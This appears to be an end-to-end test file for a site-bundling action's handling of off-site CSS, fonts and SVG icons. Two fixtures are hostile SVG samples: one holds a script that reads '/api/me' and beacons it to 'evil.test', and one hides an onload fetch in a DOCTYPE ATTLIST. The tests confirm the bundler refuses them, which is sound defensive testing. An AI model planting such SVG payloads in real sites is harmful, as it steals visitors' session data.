/**
 * `external-assets: bundle` through dist/index.js as the runner runs it (issue 38, review): what it must read in CSS
 * and attributes (escapes in `url()`, quotes as any character reference, a preload's `as`, a stylesheet's `@charset`)
 * and the third-party SVG it must not make same-origin. Off-site hosts are names under `.emulator.test` that only the
 * runner's proxy resolves, served over HTTPS with an authority the action trusts, as in `external-bundle.e2e.test.ts`.
 */
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { startEmulator, type Emulator } from '../../../emulator/server.ts';
import { runAction, type RunResult } from '../../../emulator/runner.ts';
import { offsiteExport, type ASSET_ORIGINS } from '../../../emulator/offsite.ts';
import { cssUrls } from '../../../src/verify/css.ts';
import { expectUntouched, previousWorkspace } from '../../helpers/bundle-run.ts';
import { NO_AGENT_FILES } from '../../helpers/no-agent-files.ts';
import { startAssetServer, type AssetServer } from '../../helpers/asset-server.ts';

const hasOpenssl = spawnSync('openssl', ['version']).status === 0;
const withTls = hasOpenssl ? describe : describe.skip;
if (!hasOpenssl) console.warn('external-bundle-css: SKIPPED: openssl is not installed.');

const ICON = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M2 3h20"/></svg>';
/** An icon as an attacker would shape it: it draws like one, and runs script when opened as a document. */
const SCRIPTED_ICON =
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M2 3h20"/>' +
  '<script>fetch("/api/me").then((r) => r.text()).then((t) => navigator.sendBeacon("//evil.test", t))</script></svg>';
/**
 * An icon whose script no tag shows (issue 44 item 1): the internal subset gives `<svg>` a default `onload`, which
 * Chromium applies when the file is opened. The doctype's first `>` is inside its quoted literal.
 */
const ATTLIST_ICON =
  '<!DOCTYPE svg SYSTEM "x>y" [ <!ATTLIST svg onload CDATA "fetch(\'/api/me\')"> ]>' +
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M2 3h20"/></svg>';
/** A Latin-1 stylesheet that says so, with an `é` (byte E9) in a URL. */
const LATIN1_CSS = Buffer.from('@charset "iso-8859-1";\n.hero{background:url(caf\u00e9-latin.png)}', 'latin1');

let hosts: AssetServer;
const requested: string[] = [];
const origin = (name: string): string => hosts.origin(name);

beforeAll(async () => {
  if (!hasOpenssl) return;
  hosts = await startAssetServer((req, res) => {
    let url: URL;
    try {
      url = new URL(req.url ?? '/', `https://${req.headers.host}`);
    } catch {
      // A request no browser would send (a backslash read raw from an escape): answered, recorded as sent.
      requested.push(`${req.headers.host}${req.url}`);
      return void res.writeHead(404).end();
    }
    requested.push(`${url.hostname}${url.pathname}`);
    const send = (type: string, body: string | Buffer): void =>
      void res.writeHead(200, { 'content-type': type }).end(body);
    if (url.pathname === '/scripted.svg') return send('image/svg+xml', SCRIPTED_ICON);
    if (url.pathname === '/attlist.svg') return send('image/svg+xml', ATTLIST_ICON);
    if (url.pathname.endsWith('.svg')) return send('image/svg+xml', ICON);
    if (url.pathname === '/escapes.css')
      return send('text/css', '.a{background:url(\\61.png)}.b{background:url("caf\\e9 .png")}.c{mask:url(a\\)b.png)}');
    if (url.pathname === '/latin1.css') return send('text/css', LATIN1_CSS);
    if (url.pathname === '/preload-plain.css') return send('text/plain', '.x{color:red}');
    if (url.pathname.endsWith('.png')) return send('image/png', '\x89PNG');
    if (url.pathname.endsWith('.woff2')) return send('font/woff2', 'wOF2');
    if (url.pathname === '/css2') return send('text/css', '@font-face{font-family:Inter;src:url(inter.woff2)}');
    if (url.pathname.endsWith('/katex.min.css'))
      return send('text/css', '@font-face{font-family:KaTeX_Main;src:url(fonts/KaTeX_Main-Regular.woff2)}');
    res.writeHead(404).end();
  });
});
afterAll(async () => {
  if (hasOpenssl) await hosts.close();
});

/** The fixture's asset origins, each moved to a name of its own under `.emulator.test`. */
const moved = (): Record<(typeof ASSET_ORIGINS)[number], string> => ({
  'https://icons.cdn.test': origin('icons'),
  'https://katex.cdn.test': origin('katex'),
  'https://images.cdn.test': origin('images'),
  'https://fonts.googleapis.com': origin('fonts'),
});

/** Runs `bundle` on the fixture with `extra` added to the body of `page`, and `files` added to the export. */
async function run(
  extra: string,
  options: { page?: string; files?: Record<string, string | Buffer>; workspace?: string } = {},
): Promise<RunResult> {
  const page = options.page ?? 'index.html';
  const entries = offsiteExport(moved()).map((entry) =>
    entry.name === page
      ? { ...entry, data: Buffer.from(entry.data!.toString().replace('</body>', `${extra}</body>`)) }
      : entry,
  );
  for (const [name, data] of Object.entries(options.files ?? {})) entries.push({ name, data: Buffer.from(data) });
  const emulator: Emulator = await startEmulator({ durationMs: 0, queuedMs: 0, tarEntries: entries });
  try {
    return await runAction({
      inputs: {
        'api-key': emulator.apiKey,
        'api-url': emulator.apiUrl,
        'job-id': emulator.createJob('docs.example.com', 60_000),
        'external-assets': 'bundle',
        ...NO_AGENT_FILES,
      },
      env: { HTTPS_PROXY: hosts.proxy.url, https_proxy: hosts.proxy.url },
      workspace: options.workspace,
    });
  } finally {
    await emulator.close();
  }
}

const read = (result: RunResult, file: string): string =>
  fs.readFileSync(path.join(result.workspace, 'static-export', file), 'utf8');

withTls('bundle reads CSS and attributes as browsers do', () => {
  test('CSS escapes in url(): the URL they name is fetched, and written back plain', async () => {
    const result = await run(`<link rel="stylesheet" href="${origin('css')}/escapes.css">`, {
      // The site's own stylesheet names an off-site image with an escaped character.
      files: { 'site.css': `.hero{background:url("${origin('images')}/\\68 ero.png")}` },
    });
    expect(result.code).toBe(0);
    expect(requested).toEqual(
      expect.arrayContaining([
        'css.emulator.test/a.png',
        'css.emulator.test/caf%C3%A9.png',
        'css.emulator.test/a)b.png',
        'images.emulator.test/hero.png',
      ]),
    );
    expect(requested.filter((r) => r.includes('\\') || r.includes('%5C'))).toEqual([]);
    const site = path.join(result.workspace, 'static-export');
    const stored = /href="(\/_external\/css\.emulator\.test_\d+\/escapes\.\w+\.css)"/.exec(
      read(result, 'index.html'),
    )![1]!;
    const urls = cssUrls(fs.readFileSync(path.join(site, stored), 'utf8'));
    expect(urls).toHaveLength(3);
    for (const url of urls) {
      expect(url).toMatch(/^[a-z0-9._/-]+\.png$/);
      expect(fs.readFileSync(path.resolve(path.dirname(path.join(site, stored)), url), 'utf8')).toBe('\x89PNG');
    }
    expect(read(result, 'site.css')).toMatch(
      /^\.hero\{background:url\("\/_external\/images\.emulator\.test_\d+\/hero\.\w+\.png"\)\}$/,
    );
    expect(result.outputs.verifyResult).toBe('passed');
  });

  test('quotes written as &#0034; or &#x22; in style="": the icon is fetched and the mask points at it', async () => {
    const span = (name: string, quote: string): string =>
      `<span class="icon" style="mask-image:url(${quote}${origin('icons')}/${name}.svg${quote})"></span>`;
    const result = await run(span('zero-padded', '&#0034;') + span('hex', '&#x22;'));
    expect(result.code).toBe(0);
    expect(requested).toEqual(
      expect.arrayContaining(['icons.emulator.test/zero-padded.svg', 'icons.emulator.test/hex.svg']),
    );
    const html = read(result, 'index.html');
    expect(html).toMatch(
      /style="mask-image:url\(&#0034;\/_external\/icons\.emulator\.test_\d+\/zero-padded\.\w+\.svg&#0034;\)"/,
    );
    expect(html).toMatch(/style="mask-image:url\(&#x22;\/_external\/icons\.emulator\.test_\d+\/hex\.\w+\.svg&#x22;\)"/);
    expect(html).not.toContain(`${origin('icons')}/zero-padded.svg`);
    expect(result.outputs.verifyResult).toBe('passed');
  });

  test('a preload as=style is a stylesheet; answered as text/plain, the step fails, naming its page', async () => {
    const link = `<link rel="preload" href="${origin('katex')}/preload-plain.css" as="style">`;
    const result = await run(link, { page: 'guides/math.html', workspace: previousWorkspace() });
    expect(result.log).toContain(`${origin('katex')}/preload-plain.css: answered with Content-Type 'text/plain'`);
    expect(result.log).toContain('loaded by guides/math.html');
    await expectUntouched(result);
  });

  test("@charset: a Latin-1 stylesheet's url() names the file the browser asks for; its other bytes stay", async () => {
    const result = await run(`<link rel="stylesheet" href="${origin('css')}/latin1.css">`);
    expect(result.code).toBe(0);
    expect(requested).toContain('css.emulator.test/caf%C3%A9-latin.png');
    expect(requested.filter((r) => r.includes('%EF%BF%BD'))).toEqual([]);
    const stored = /href="(\/_external\/css\.emulator\.test_\d+\/latin1\.\w+\.css)"/.exec(
      read(result, 'index.html'),
    )![1]!;
    const bytes = fs.readFileSync(path.join(result.workspace, 'static-export', stored));
    expect(bytes.toString('latin1')).toMatch(
      /^@charset "iso-8859-1";\n\.hero\{background:url\(caf-+latin\.\w+\.png\)\}$/,
    );
  });
});

withTls("bundle reads the site's own stylesheets as browsers do", () => {
  test("in their @charset: a Latin-1 url() names the file the browser asks for; fragments are the URL's", async () => {
    const icons = `${origin('icons')}/sprite.svg`;
    const result = await run('', {
      files: {
        'latin1.css': Buffer.from(
          `@charset "iso-8859-1";\n.hero{background:url(${origin('images')}/caf\u00e9.png)}`,
          'latin1',
        ),
        // A fragment written as UTF-8, and one as a CSS escape: both are the URL's fragment, café.
        'icons.css': `.a{mask:url(${icons}#café)}.b{mask:url("${icons}#caf\\e9")}`,
      },
    });
    expect(result.code).toBe(0);
    expect(requested).toContain('images.emulator.test/caf%C3%A9.png');
    expect(requested.filter((r) => r.includes('%EF%BF%BD'))).toEqual([]);
    const latin1 = fs.readFileSync(path.join(result.workspace, 'static-export', 'latin1.css'), 'latin1');
    expect(latin1).toMatch(
      /^@charset "iso-8859-1";\n\.hero\{background:url\(\/_external\/images\.emulator\.test_\d+\/caf-*\.\w+\.png\)\}$/,
    );
    const sprite = /\/_external\/icons\.emulator\.test_\d+\/sprite\.\w+\.svg/.source;
    expect(read(result, 'icons.css')).toMatch(
      new RegExp(`^\\.a\\{mask:url\\(${sprite}#caf%C3%A9\\)\\}\\.b\\{mask:url\\("${sprite}#caf%C3%A9"\\)\\}$`),
    );
    expect(result.outputs.verifyResult).toBe('passed');
  });
});

withTls('bundle never makes a scripted SVG same-origin', () => {
  test('an icon with a <script> fails the step naming its URL, page and way out; the previous site stays', async () => {
    const icon = `<span class="icon" style="mask-image:url(&quot;${origin('icons')}/scripted.svg&quot;)"></span>`;
    const result = await run(icon, { page: 'guides/math.html', workspace: previousWorkspace() });
    expect(result.log).toContain(`${origin('icons')}/scripted.svg: is an SVG with a <script> element`);
    expect(result.log).toContain('Use an SVG without scripts, or host a cleaned copy with the site');
    expect(result.log).toContain('loaded by guides/math.html');
    expect(result.log).toContain('external-assets: keep');
    await expectUntouched(result);
  });

  test('an icon whose DOCTYPE declares a default onload fails the step too (issue 44 item 1)', async () => {
    const icon = `<img src="${origin('icons')}/attlist.svg" alt="">`;
    const result = await run(icon, { page: 'guides/math.html', workspace: previousWorkspace() });
    expect(result.log).toContain(`${origin('icons')}/attlist.svg: is an SVG with a markup declaration (<!ATTLIST>)`);
    expect(result.log).toContain('loaded by guides/math.html');
    await expectUntouched(result);
  });
});
